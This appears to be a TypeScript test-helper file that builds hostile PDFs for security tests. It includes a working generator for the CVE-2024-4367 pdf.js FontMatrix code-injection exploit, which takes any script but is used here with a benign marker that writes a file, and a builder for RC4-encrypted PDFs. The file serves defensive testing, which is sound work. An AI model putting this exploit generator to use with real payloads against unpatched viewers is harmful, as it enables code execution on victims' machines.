import { createHash } from 'node:crypto';

/**
 * Hostile PDFs built byte for byte in the test, so no binary blob is needed: a Type1 font carrying
 * the CVE-2024-4367 FontMatrix payload, and a PDF encrypted with the standard security handler.
 */

/** A PDF literal string: backslashes and parentheses escaped. */
export function pdfString(text: string): string {
  return `(${text.replace(/[\\()]/g, (c) => `\\${c}`)})`;
}

/** The value of a PDF literal string's body (the inverse of pdfString's escaping, plus \n and \r). */
export function unescapePdfString(body: string): string {
  return body.replace(/\\([nrt()\\])/g, (_, c: string) => ({ n: '\n', r: '\r', t: '\t' })[c] ?? c);
}

type PdfObject = string | { dict: string; stream: Buffer };

/**
 * A complete PDF from its objects (object n is objects[n - 1]), with a correct cross-reference
 * table; `trailer` is added to the trailer dictionary (e.g. /Encrypt and /ID).
 */
export function buildPdf(objects: PdfObject[], trailer = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.4\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let length = parts[0]!.length;
  const offsets: number[] = [];
  const push = (part: Buffer) => {
    parts.push(part);
    length += part.length;
  };
  objects.forEach((object, index) => {
    offsets.push(length);
    if (typeof object === 'string') {
      push(Buffer.from(`${index + 1} 0 obj\n${object}\nendobj\n`, 'latin1'));
    } else {
      const dict = object.dict.replace(/>>\s*$/, ` /Length ${object.stream.length} >>`);
      push(Buffer.from(`${index + 1} 0 obj\n${dict}\nstream\n`, 'latin1'));
      push(object.stream);
      push(Buffer.from('\nendstream\nendobj\n', 'latin1'));
    }
  });
  const xref =
    `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n` +
    offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('') +
    `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${length}\n%%EOF\n`;
  push(Buffer.from(xref, 'latin1'));
  return Buffer.concat(parts);
}

/** A content stream drawing each line of text in font /F1, one under the other. */
function textContent(lines: readonly string[]): Buffer {
  const shown = lines.map((line) => `${pdfString(line)} Tj T*`).join('\n');
  return Buffer.from(`BT\n/F1 10 Tf\n12 TL\n40 800 Td\n${shown}\nET\n`, 'latin1');
}

/**
 * JavaScript that leaves traces outside the thread that runs it: a flag on its global object, and a
 * file written at `markerPath`. Had it run anywhere, the file exists.
 */
export function markerScript(markerPath: string): string {
  return (
    'globalThis.__pwned = true;\n' +
    '(process.getBuiltinModule ? process.getBuiltinModule("fs") : require("fs"))' +
    `.writeFileSync(${JSON.stringify(markerPath)}, "CVE-2024-4367 payload ran");`
  );
}

/**
 * The public CVE-2024-4367 proof of concept's shape: a Type1 font whose /FontMatrix ends in a string
 * that closes pdf.js's generated `c.transform(...)` call and appends `script`; pdf.js before 4.2.67
 * compiled glyph outlines with `new Function` (when isEvalSupported) and so ran it. The page shows
 * `lines` in that font, so reading the text has to load the font.
 */
export function fontMatrixPayloadPdf(script: string, lines: readonly string[] = ['AbCdEf']): Buffer {
  const matrix = `[0.1 0 0 0.1 0 (1\\);\n${script.replace(/[\\()]/g, (c) => `\\${c}`)}\n//)]`;
  return buildPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>',
    { dict: '<< >>', stream: textContent(lines) },
    '<< /Type /Font /Subtype /Type1 /BaseFont /PAXEKO+SourceSansPro-Bold /Encoding /WinAnsiEncoding\n' +
      `/FontMatrix ${matrix}\n/FirstChar 32 /LastChar 126 /Widths [${Array(95).fill(500).join(' ')}]\n` +
      '/FontDescriptor 6 0 R >>',
    '<< /Type /FontDescriptor /FontName /PAXEKO+SourceSansPro-Bold /Flags 32 /FontBBox [-6 -12 579 713]\n' +
      '/ItalicAngle 0 /Ascent 751 /Descent -173 /CapHeight 713 /StemV 100 /MissingWidth 250 /FontFile3 7 0 R >>',
    { dict: '<< /Subtype /Type2 >>', stream: Buffer.alloc(0) },
  ]);
}

/** The JavaScript pdf.js up to 4.1 compiled for a glyph of a font with this /FontMatrix (see above). */
export function vulnerableGlyphProgram(pdf: Buffer): string {
  const found = /\/FontMatrix \[([^(]*)\(((?:\\.|[^\\)])*)\)\]/s.exec(pdf.toString('latin1'));
  if (!found) throw new Error('no FontMatrix with a string in this PDF');
  const args = [...found[1]!.trim().split(/\s+/), unescapePdfString(found[2]!)];
  return `c.save();\nc.transform(${args.join(',')});\nc.scale(size,-size);\n`;
}

// The standard security handler, revision 3 (RC4, 128-bit key), as in ISO 32000-1 §7.6.3.

const PADDING = Buffer.from('28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a', 'hex');

/** RC4 in plain JavaScript: OpenSSL 3 (and so node:crypto) no longer offers it by default. */
function rc4(key: Buffer, data: Buffer): Buffer {
  const s = Array.from({ length: 256 }, (_, i) => i);
  for (let i = 0, j = 0; i < 256; i++) {
    j = (j + s[i]! + key[i % key.length]!) & 255;
    [s[i], s[j]] = [s[j]!, s[i]!];
  }
  const out = Buffer.alloc(data.length);
  for (let n = 0, i = 0, j = 0; n < data.length; n++) {
    i = (i + 1) & 255;
    j = (j + s[i]!) & 255;
    [s[i], s[j]] = [s[j]!, s[i]!];
    out[n] = data[n]! ^ s[(s[i]! + s[j]!) & 255]!;
  }
  return out;
}

const md5 = (...parts: Buffer[]) => createHash('md5').update(Buffer.concat(parts)).digest();
const padded = (password: string) => Buffer.concat([Buffer.from(password, 'latin1'), PADDING]).subarray(0, 32);

/** RC4 with the key, then 19 more passes with the key's bytes XORed with 1..19 (revision 3). */
function rc4Rounds(key: Buffer, data: Buffer): Buffer {
  let out = rc4(key, data);
  for (let round = 1; round <= 19; round++) out = rc4(Buffer.from(key.map((b) => b ^ round)), out);
  return out;
}

/**
 * A one-page PDF with `lines` of text, encrypted (RC4 128-bit, revision 3) so that it opens only
 * with `userPassword` (or `ownerPassword`); an empty user password makes a PDF anyone can open.
 */
export function encryptedPdf(lines: readonly string[], userPassword: string, ownerPassword = 'owner-secret'): Buffer {
  const keyLength = 16;
  const permissions = -4; // every permission granted: only the password keeps a reader out
  const fileId = createHash('md5').update(`agentledger:${userPassword}:${ownerPassword}`).digest();

  let ownerKey = md5(padded(ownerPassword));
  for (let i = 0; i < 50; i++) ownerKey = md5(ownerKey);
  const O = rc4Rounds(ownerKey.subarray(0, keyLength), padded(userPassword));

  const p = Buffer.alloc(4);
  p.writeInt32LE(permissions);
  let key = md5(padded(userPassword), O, p, fileId);
  for (let i = 0; i < 50; i++) key = md5(key.subarray(0, keyLength));
  key = key.subarray(0, keyLength);
  const U = Buffer.concat([rc4Rounds(key, md5(PADDING, fileId)), Buffer.alloc(16)]);

  const objectKey = (number: number) => {
    const id = Buffer.from([number & 255, (number >> 8) & 255, (number >> 16) & 255, 0, 0]);
    return md5(key, id).subarray(0, Math.min(keyLength + 5, 16));
  };
  const contentObject = 4;
  return buildPdf(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>',
      { dict: '<< >>', stream: rc4(objectKey(contentObject), textContent(lines)) },
      '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
      `<< /Filter /Standard /V 2 /R 3 /Length ${keyLength * 8} /P ${permissions} ` +
        `/O <${O.toString('hex')}> /U <${U.toString('hex')}> >>`,
    ],
    `/Encrypt 6 0 R /ID [<${fileId.toString('hex')}> <${fileId.toString('hex')}>]`,
  );
}
